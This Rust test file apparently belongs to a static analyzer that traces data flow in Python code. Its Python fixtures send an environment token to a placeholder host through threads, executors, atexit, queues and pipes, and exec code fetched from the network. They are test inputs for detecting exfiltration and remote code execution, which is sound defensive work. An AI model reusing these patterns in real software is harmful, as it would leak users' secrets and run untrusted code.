//! Claims about functions that others run: with what they are called, and what comes of them.

#[allow(dead_code, reason = "shared with other tests")]
mod common;

use common::{calls, events_of};
use venin_model::{Event, OriginKind, Role, Trigger};

/// Whether an argument of a call carries something of a kind.
fn carries(event: &Event, role: Role, kind: OriginKind) -> bool {
    event.arguments.iter().any(|a| a.role == role && a.origins.kinds.contains(kind))
}

/// Whether a call in some source is given the data of an environment variable and a known address.
fn is_sent(how: &str) -> bool {
    let source = format!(
        "import os, httpx\nurl = 'https://a.invalid/c'\ndata = os.environ['TOKEN']\nimport asyncio, functools\n{how}\n"
    );
    let events = events_of(&source);
    let post = events.iter().find(|e| &*e.name == "httpx.post");
    post.is_some_and(|e| e.text(Role::Url).is_some() && carries(e, Role::Data, OriginKind::Env))
}

#[test]
fn whoever_runs_a_function_passes_on_all_its_arguments() {
    for how in [
        "from concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(httpx.post, url, json=data)",
        "async def go():\n    await asyncio.to_thread(httpx.post, url, json=data)\nasyncio.run(go())",
        "loop = asyncio.get_event_loop()\nloop.run_in_executor(None, functools.partial(httpx.post, url, json=data))",
        "asyncio.get_event_loop().call_soon(functools.partial(httpx.post, json=data), url)",
        "import threading\nthreading.Timer(3, httpx.post, [url], {'json': data}).start()",
        "import threading\nthreading.Timer(3, httpx.post, kwargs={'json': data}, args=(url,)).start()",
        "import threading\nthreading.Thread(None, httpx.post, None, (url,), {'json': data}).start()",
        "import sched\nsched.scheduler().enter(1, 1, httpx.post, argument=(url,), kwargs={'json': data})",
        "import sched\nsched.scheduler().enter(1, 1, httpx.post, (url,), {'json': data})",
        "import multiprocessing\nmultiprocessing.Process(None, httpx.post, None, (url,), dict(json=data)).start()",
        "import _thread\n_thread.start_new_thread(httpx.post, (url,), {'json': data})",
        "from multiprocessing.pool import ThreadPool\nThreadPool().apply_async(httpx.post, [url], {'json': data})",
        "from multiprocessing.pool import ThreadPool\nThreadPool().apply(httpx.post, args=(url,), kwds={'json': data})",
        "import multiprocessing\nmultiprocessing.Pool().map(functools.partial(httpx.post, json=data), [url])",
        "import multiprocessing\nmultiprocessing.Pool().starmap(lambda a, b: httpx.post(a, json=b), [(url, data)])",
        "import schedule\nschedule.every(10).minutes.do(httpx.post, url, json=data)",
        "import atexit\natexit.register(httpx.post, url, json=data)",
        "import weakref\nweakref.finalize(asyncio, httpx.post, url, json=data)",
        "import contextlib\nwith contextlib.ExitStack() as s:\n    s.callback(httpx.post, url, json=data)",
        "import gevent\ngevent.spawn(httpx.post, url, json=data)",
        "import anyio\nasync def f():\n    async with anyio.create_task_group() as g:\n        g.start_soon(lambda u: httpx.post(u, json=data), url)\nanyio.run(f)",
        "def own(at, *, body):\n    httpx.post(at, json=body)\nfrom concurrent.futures import ThreadPoolExecutor\n\
         ThreadPoolExecutor().submit(own, url, body=data)",
    ] {
        assert!(is_sent(how), "{how}");
    }
}

#[test]
fn a_tuple_that_is_submitted_stays_one_argument() {
    let source = "\
from concurrent.futures import ThreadPoolExecutor
import os
def run(words):
    os.system(words[1])
ThreadPoolExecutor().submit(run, ('a', 'echo'))
";
    let events = events_of(source);
    let event = events.iter().find(|e| &*e.name == "os.system");
    assert_eq!(event.and_then(|e| e.text(Role::Command)), Some("echo"));
}

/// The origins of what is executed in some source, and whether it was read as a layer.
fn executed(how: &str, gives: &str) -> (bool, bool) {
    let source = format!(
        "import asyncio, urllib.request\nfrom concurrent.futures import ThreadPoolExecutor, as_completed, wait\n\
         from multiprocessing.pool import ThreadPool\npool = ThreadPoolExecutor()\n\
         def work(*a):\n    return {gives}\nasync def task():\n    return {gives}\n{how}\n"
    );
    let events = events_of(&source);
    let is_from_network =
        events.iter().any(|e| &*e.name == "exec" && carries(e, Role::Code, OriginKind::Network));
    (is_from_network, events.iter().any(|e| e.site.layer == 1 && &*e.name == "os.system"))
}

#[test]
fn what_a_worker_gives_is_what_its_future_gives() {
    for how in [
        "exec(pool.submit(work).result(timeout=3))",
        "pool.submit(work).add_done_callback(lambda f: exec(f.result()))",
        "def done(f):\n    exec(f.result())\nf = pool.submit(work, 1)\nf.add_done_callback(done)",
        "for f in as_completed([pool.submit(work, n) for n in (1, 2)]):\n    exec(f.result())",
        "for f in as_completed({pool.submit(work): 'a'}):\n    exec(f.result())",
        "done, _ = wait([pool.submit(work)])\nfor f in done:\n    exec(f.result())",
        "for r in pool.map(work, ['a']):\n    exec(r)",
        "exec(list(ThreadPool().imap_unordered(work, range(3)))[0])",
        "exec(ThreadPool().apply(work))",
        "exec(ThreadPool().apply_async(work).get())",
        "exec(ThreadPool().map_async(work, [1]).get()[0])",
        "ThreadPool().apply_async(work, callback=exec)",
        "exec(asyncio.run(task()))",
        "exec(asyncio.get_event_loop().run_until_complete(asyncio.wait_for(task(), 3)))",
        "async def m():\n    exec(await asyncio.create_task(task()))\nasyncio.run(m())",
        "async def m():\n    t = asyncio.ensure_future(task())\n    await t\n    exec(t.result())\nasyncio.run(m())",
        "async def m():\n    a, b = await asyncio.gather(asyncio.sleep(1), task())\n    exec(b)\nasyncio.run(m())",
        "async def m():\n    for r in await asyncio.gather(*[task()]):\n        exec(r)\nasyncio.run(m())",
        "async def m():\n    exec(await asyncio.to_thread(work))\nasyncio.run(m())",
        "async def m():\n    loop = asyncio.get_running_loop()\n    exec(await loop.run_in_executor(pool, work))\nasyncio.run(m())",
        "async def m():\n    for c in asyncio.as_completed([task()]):\n        exec(await c)\nasyncio.run(m())",
        "async def m():\n    async with asyncio.TaskGroup() as g:\n        t = g.create_task(task())\n    exec(t.result())\nasyncio.run(m())",
        "exec(asyncio.run_coroutine_threadsafe(task(), asyncio.new_event_loop()).result())",
        "import gevent\ng = gevent.spawn(work)\ng.join()\nexec(g.get())",
    ] {
        assert!(executed(how, "urllib.request.urlopen('https://a.invalid').read()").0, "{how}");
        assert!(executed(how, "'import os\\nos.system(\"echo\")'").1, "{how}");
    }
}

#[test]
fn a_future_of_one_worker_gives_nothing_of_another() {
    let source = "\
from concurrent.futures import ThreadPoolExecutor
import urllib.request
pool = ThreadPoolExecutor()
a = pool.submit(lambda: urllib.request.urlopen('https://a.invalid').read())
b = pool.submit(lambda: 'x = 1')
exec(b.result())
";
    let events = events_of(source);
    let exec = events.iter().find(|e| &*e.name == "exec").expect("it is executed");
    assert!(!carries(exec, Role::Code, OriginKind::Network));
    assert_eq!(exec.text(Role::Code), Some("x = 1"));
}

#[test]
fn a_callback_is_called_once() {
    let source = "\
from concurrent.futures import ThreadPoolExecutor
import os
ThreadPoolExecutor().submit(lambda: 1).add_done_callback(lambda f: os.system('echo'))
";
    let run = calls(source).iter().filter(|name| *name == "os.system").count();
    assert_eq!(run, 1);
}

/// The address that data of an environment variable is sent to, in code that runs at import.
fn address_of_taken(how: &str) -> Vec<String> {
    let source = format!(
        "import asyncio, multiprocessing, os, queue, threading, urllib.request\nsecret = os.environ['TOKEN'].encode()\n\
         def send(data):\n    urllib.request.urlopen('https://a.invalid/c', data)\n{how}\n"
    );
    let events = events_of(&source);
    let sends = events.iter().filter(|e| &*e.name == "urllib.request.urlopen");
    let sends = sends.filter(|e| e.trigger == Trigger::Import && carries(e, Role::Data, OriginKind::Env));
    sends.filter_map(|e| e.text(Role::Url).map(str::to_owned)).collect()
}

#[test]
fn what_is_put_into_a_queue_is_got_by_whoever_waits_for_it() {
    for how in [
        "q = queue.Queue()\ndef drain():\n    send(q.get())\nthreading.Thread(target=drain).start()\nq.put(secret)",
        "q = queue.SimpleQueue()\ndef drain():\n    while True:\n        send(q.get())\nthreading.Thread(target=drain).start()\nq.put(secret)",
        "q = queue.LifoQueue()\nq.put_nowait(secret)\nsend(q.get_nowait())",
        "q = queue.PriorityQueue()\nq.put((1, secret))\nsend(q.get()[1])",
        "q = multiprocessing.Queue()\ndef drain(q):\n    send(q.get(timeout=3))\n\
         multiprocessing.Process(target=drain, args=(q,)).start()\nq.put(secret)",
        "q = multiprocessing.get_context('spawn').Queue()\nq.put(secret)\nsend(q.get())",
        "q = multiprocessing.Manager().Queue()\nq.put(secret)\nsend(q.get())",
        "a, b = multiprocessing.Pipe()\ndef drain(c):\n    send(c.recv())\n\
         multiprocessing.Process(target=drain, args=(b,)).start()\na.send(secret)",
        "held = multiprocessing.Manager().list()\ndef drain(c):\n    send(c[0])\n\
         multiprocessing.Process(target=drain, args=(held,)).start()\nheld.append(secret)",
        "held = multiprocessing.Manager().dict()\nheld['a'] = secret\nsend(held['a'])",
        "async def drain(q):\n    send(await q.get())\nasync def main():\n    q = asyncio.Queue()\n    \
         t = asyncio.create_task(drain(q))\n    await q.put(secret)\n    await t\nasyncio.run(main())",
        "class Worker(threading.Thread):\n    def __init__(self, q):\n        super().__init__()\n        self.q = q\n    \
         def run(self):\n        for item in iter(self.q.get, None):\n            send(item)\n\
         q = queue.Queue()\nWorker(q).start()\nq.put(secret)",
        "import trio\nasync def main():\n    there, here = trio.open_memory_channel(0)\n    await there.send(secret)\n    \
         send(await here.receive())\ntrio.run(main)",
        "buffer = []\ndef drain():\n    while buffer:\n        send(buffer.pop())\nthreading.Timer(3, drain).start()\nbuffer.append(secret)",
    ] {
        assert_eq!(address_of_taken(how), ["https://a.invalid/c"], "{how}");
    }
}

#[test]
fn an_end_of_a_pipe_does_not_receive_what_it_sent() {
    assert!(address_of_taken("a, b = multiprocessing.Pipe()\na.send(secret)\nsend(a.recv())").is_empty());
    assert!(address_of_taken("q, r = queue.Queue(), queue.Queue()\nq.put(secret)\nsend(r.get())").is_empty());
}
